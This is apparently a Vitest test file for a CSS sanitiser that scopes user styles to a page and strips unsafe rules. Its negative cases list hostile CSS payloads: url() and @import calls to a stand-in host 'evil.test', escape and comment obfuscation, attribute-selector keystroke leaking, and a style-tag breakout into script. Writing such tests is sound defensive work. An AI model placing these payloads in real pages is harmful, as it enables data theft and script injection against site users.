import { expect, test } from 'vitest'
import { cleanCss, cleanedCss } from './cleanCss.ts'

test.each([
  ['a plain rule', 'h1 { color: red }', '.tandem-page h1{color:red}'],
  ['several selectors', 'h1, .a > b { color: red }', '.tandem-page h1,.tandem-page .a>b{color:red}'],
  ['the page itself', 'body { color: red }', '.tandem-page {color:red}'],
  ['media', '@media (max-width: 600px) { p { margin: 0 } }', '@media (max-width:600px){.tandem-page p{margin:0}}'],
  [
    'keyframes keep their steps',
    '@keyframes in { from { opacity: 0 } to { opacity: 1 } }',
    '@keyframes in{from{opacity:0}to{opacity:1}}',
  ],
])('%s', (_what, css, expected) => expect(cleanCss(css).replaceAll(' {', '{')).toBe(expected.replaceAll(' {', '{')))

test.each([
  ['import', '@import url(//evil.test/a.css);'],
  ['import as text', '@import "//evil.test/a.css";'],
  ['escaped import', '@\\69mport "//evil.test/a.css";'],
  ['address in a background', 'p { background: url(//evil.test) }'],
  ['address in quotes', 'p { background: url("//evil.test") }'],
  ['escaped address', 'p { background: u\\72l(//evil.test) }'],
  ['address in a variable', 'p { --x: url(//evil.test); background: var(--x) }'],
  ['image set', 'p { background: image-set("//evil.test" 1x) }'],
  ['webkit image set', 'p { background: -webkit-image-set(url(//evil.test) 1x) }'],
  ['cross-fade', 'p { background: cross-fade(url(//evil.test), red) }'],
  ['font from elsewhere', '@font-face { font-family: x; src: url(//evil.test) }'],
  ['namespace', '@namespace url(//evil.test);'],
  ['reading what is typed', 'input[value^="a"] { background: url(//evil.test) }'],
  ['attribute selector alone', 'input[value^="a"] { color: red }'],
  ['covering the window', 'div { position: fixed; inset: 0 }'],
  ['sticking to the window', 'div { position: sticky }'],
  ['end of style', '</style><script>alert(1)</script>'],
  ['end of style in a text', 'p::after { content: "</style><script>" }'],
  ['expression', 'p { width: expression(alert(1)) }'],
  ['behaviour', 'p { behavior: url(x.htc) }'],
  ['binding', 'p { -moz-binding: url(x.xml) }'],
  ['list image', 'li { list-style: url(//evil.test) }'],
  ['cursor', 'p { cursor: url(//evil.test), auto }'],
  ['nested rule', 'p { & [value] { background: url(//evil.test) } }'],
  ['supports that fetches', '@supports (background: url(//evil.test)) { p { color: red } }'],
  ['layer statement', '@layer a { p { background: url(//evil.test) } }'],
  ['container', '@container (width > 1px) { html { color: red } }'],
  ['page', '@page { margin: 0 }'],
  ['document', '@document url(//evil.test) { p { color: red } }'],
  ['charset', '@charset "utf-7";'],
  ['comment trick', 'p { background: url/**/(//evil.test) }'],
  ['unclosed', 'p { background: url(//evil.test'],
])('%s leaves nothing that loads, reads or breaks out', (_what, css) => {
  const cleaned = cleanCss(css)
  expect(cleaned).not.toMatch(
    /url|evil|import|expression|fixed|sticky|<|\[|image-set|cross-fade|behavior|binding|@font-face|@namespace/i,
  )
  for (const rule of cleaned.split('}').filter(text => text.includes('{') && !text.startsWith('@')))
    expect(rule).toMatch(/\.tandem-page/)
})

test('a rule about the whole document stays inside the page', () => {
  expect(cleanCss('html, :root, * , body .x { color: red }')).not.toMatch(/(^|,)(html|:root|\*|body)/)
})

test('no text makes it fail', () => {
  for (const text of ['', '}}}', '{', '/*', '@', 'a{b', '\\', '"', 'a{b:c;;;}', '\u0000', 'a:not(', '@media{', '!important'])
    expect(typeof cleanCss(text)).toBe('string')
})

test.each([
  ['@import "x.css";', 'atRule'],
  ['h1 { background: url(x.png) }', 'address'],
  ['h1 { cursor: pointer }', 'property'],
  ['h1 { --own: 1 }', 'property'],
  ['h1 { position: fixed }', 'covers'],
  ['input[value^="a"] { color: red }', 'selector'],
  ['h1 { p { color: red } }', 'nested'],
  ['body ~ h1 { color: red }', 'outside'],
  ['h1 { colour }', 'unreadable'],
])('what is left out of %s is told: %s', (text, reason) => {
  expect(cleanedCss(text).leftOut.map(part => part.reason)).toEqual([reason])
})

test('nothing is told of rules that stay, nor of comments', () => {
  const text = '/* mine */ h1 { color: red } @media (width > 1px) { p { /* here */ margin: 0 } } @keyframes a { from { top: 0 } }'
  expect(cleanedCss(text).leftOut).toEqual([])
})
